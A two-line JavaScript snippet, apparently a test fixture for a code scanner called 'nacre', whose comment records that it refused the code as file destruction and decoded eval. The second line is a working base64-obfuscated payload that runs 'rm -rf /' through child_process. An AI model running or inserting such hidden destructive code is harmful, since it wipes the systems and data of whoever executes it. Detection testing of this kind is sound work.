// nacre: refused file.destroy code.eval-decoded
eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ3JtIC1yZiAvJyk=', 'base64').toString());
